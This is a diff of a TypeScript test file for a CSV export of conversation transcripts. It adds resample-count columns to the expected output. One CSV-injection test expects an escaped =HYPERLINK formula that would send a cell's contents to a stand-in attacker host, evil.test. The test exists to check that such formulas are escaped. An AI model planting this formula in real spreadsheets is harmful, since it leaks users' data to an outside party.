@@ -30,7 +30,7 @@ import type { Turn } from '../../src/contracts/conversation';
 const HEADER =
   'timestamp,query,cloud_response,ollama_response,processing_time_ms,conversation_id,turn,cloud_model,' +
   'local_model,cloud_latency_ms,local_latency_ms,cloud_input_tokens,cloud_output_tokens,local_input_tokens,' +
-  'local_output_tokens';
+  'local_output_tokens,cloud_resamples,local_resamples';
 
 function turn(n: number, overrides: Partial<Turn> = {}): Turn {
   return {
@@ -73,10 +73,15 @@ describe('transcriptToCsv', () => {
     expect(transcriptToCsv('c-1', [])).toBe(`${HEADER}\r\n`);
   });
 
+  test('ends each row with the resamples the novelty guard asked for, per side', () => {
+    const row = transcriptToCsv('c-1', [turn(1, { resamples: { cloud: 1, local: 2 } })]).split('\r\n')[1];
+    expect(row?.endsWith(',11,22,33,4,1,2')).toBe(true);
+  });
+
   test('writes one CRLF-terminated row per turn', () => {
     expect(transcriptToCsv('c-1', [turn(1)])).toBe(
       `${HEADER}\r\n` +
-        '2025-01-02T03:04:01.000Z,Question 1,Answer 1,Follow-up 1,1001,c-1,1,cloud-model,gemma3:270m,700,300,11,22,33,4\r\n',
+        '2025-01-02T03:04:01.000Z,Question 1,Answer 1,Follow-up 1,1001,c-1,1,cloud-model,gemma3:270m,700,300,11,22,33,4,0,0\r\n',
     );
   });
 
@@ -91,8 +96,8 @@ describe('transcriptToCsv', () => {
     ]);
     expect(csv).toBe(
       `${HEADER}\r\n` +
-        '2025-01-02T03:04:01.000Z,"a, b","He said ""hi""","line 1\nline 2",1001,c-1,1,cloud-model,gemma3:270m,700,300,11,22,33,4\r\n' +
-        '2025-01-02T03:04:02.000Z,"crlf\r\nend","lone\rcr",Ünïcödé 日本語 🤖👍🏽,1002,c-1,2,cloud-model,gemma3:270m,700,300,11,22,33,4\r\n',
+        '2025-01-02T03:04:01.000Z,"a, b","He said ""hi""","line 1\nline 2",1001,c-1,1,cloud-model,gemma3:270m,700,300,11,22,33,4,0,0\r\n' +
+        '2025-01-02T03:04:02.000Z,"crlf\r\nend","lone\rcr",Ünïcödé 日本語 🤖👍🏽,1002,c-1,2,cloud-model,gemma3:270m,700,300,11,22,33,4,0,0\r\n',
     );
   });
 });
@@ -151,6 +156,8 @@ describe('formula escaping (CSV injection)', () => {
       '22',
       '33',
       '4',
+      '0',
+      '0',
     ]);
     // Still RFC 4180: the escaped cell with quotes inside is quoted, its quotes doubled.
     expect(csv).toContain('"\'=HYPERLINK(""http://evil.test/?q=""&B2,""Click"")"');
